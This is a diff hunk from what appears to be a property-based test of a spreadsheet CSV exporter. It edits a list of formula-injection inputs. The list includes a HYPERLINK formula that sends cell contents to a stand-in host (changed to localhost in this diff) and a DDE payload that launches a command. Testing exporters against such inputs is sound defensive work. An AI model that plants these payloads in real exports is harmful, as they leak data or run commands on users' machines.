@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 from totes.dashboard.spreadsheet import csv
 
 FORMULAS = (
-    '=HYPERLINK("http://elsewhere.example/?"&A1)',
+    '=HYPERLINK("http://localhost/?"&A1)',
     "+44 20 7946 0000",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1)",
